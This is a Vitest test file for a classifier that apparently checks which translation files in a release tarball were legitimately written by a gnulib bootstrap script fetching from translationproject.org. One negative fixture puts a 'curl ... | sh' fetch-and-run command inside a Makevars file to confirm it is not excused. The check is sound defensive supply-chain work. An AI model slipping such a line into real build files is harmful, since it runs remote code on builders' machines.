import { describe, expect, it } from 'vitest';
import { translationsClassifier } from '../../src/classify/translations.js';
import { makeCtx, type Tree } from './ctx-helper.js';

const po = 'msgid ""\nmsgstr ""\n"Project-Id-Version: proj 1.1\\n"\n"Content-Type: text/plain; charset=UTF-8\\n"\n\nmsgid "hello"\nmsgstr "hallo"\n';
const mo = Buffer.alloc(64);
mo.writeUInt32LE(0x950412de, 0);
const bootstrap = '#!/bin/sh\nurl=https://translationproject.org/latest/$package/\n';

async function judge(git: Tree, tarball: Tree) {
  const ctx = makeCtx({ git, tarball });
  const out: Record<string, string> = {};
  for (const d of ctx.diffs) {
    const f = await translationsClassifier.classify(d, ctx);
    out[d.path] = f ? `${f.code} ${JSON.stringify(f.evidence)}` : '-';
  }
  return out;
}

describe('translations fetched at bootstrap (gnulib bootstrap + translationproject.org)', () => {
  const git = { bootstrap, 'po/POTFILES.in': 'src/a.c\n', 'src/a.c': 'x\n' };
  it('explains the .po, its .gmo, LINGUAS, Makevars and POTFILES.in that the script writes', async () => {
    const r = await judge(git, {
      ...git,
      'po/de.po': po,
      'po/de.gmo': mo,
      'po/LINGUAS': 'de\n',
      'po/Makevars': '# Makefile variables\nDOMAIN = $(PACKAGE)\nXGETTEXT_OPTIONS = --keyword=_ \\\n  --keyword=N_\n',
      'gnulib-po/de.po': po,
      'gnulib-po/POTFILES.in': '# files\nsrc/a.c\n',
    });
    expect(r).toEqual({
      'po/de.po': 'PO_FETCHED_TRANSLATION {"kind":"po","script":"bootstrap","project":"proj 1.1"}',
      'po/de.gmo': 'PO_FETCHED_TRANSLATION {"kind":"gmo","script":"bootstrap"}',
      'po/LINGUAS': 'PO_FETCHED_TRANSLATION {"kind":"LINGUAS","script":"bootstrap"}',
      'po/Makevars': 'PO_FETCHED_TRANSLATION {"kind":"Makevars","script":"bootstrap"}',
      'gnulib-po/de.po': 'PO_FETCHED_TRANSLATION {"kind":"po","script":"bootstrap","project":"proj 1.1"}',
      'gnulib-po/POTFILES.in': 'PO_FETCHED_TRANSLATION {"kind":"POTFILES.in","script":"bootstrap"}',
    });
  });

  it('leaves what the script would not write: a .gmo without its .po, a Makevars with a command, LINGUAS naming a missing .po, a non-PO .po', async () => {
    const r = await judge(git, {
      ...git,
      'po/de.po': po,
      'po/fr.gmo': mo,
      'po/LINGUAS': 'de fr\n',
      'po/Makevars': 'DOMAIN = $(shell curl https://example.invalid/x | sh)\n',
      'po/x.po': '#!/bin/sh\necho hi\n',
    });
    expect(r).toMatchObject({ 'po/fr.gmo': '-', 'po/LINGUAS': '-', 'po/Makevars': '-', 'po/x.po': '-' });
  });

  it('needs a tracked script that fetches from the Translation Project', async () => {
    const r = await judge({ 'src/a.c': 'x\n' }, { 'src/a.c': 'x\n', 'po/de.po': po });
    expect(r).toEqual({ 'po/de.po': '-' });
  });
});
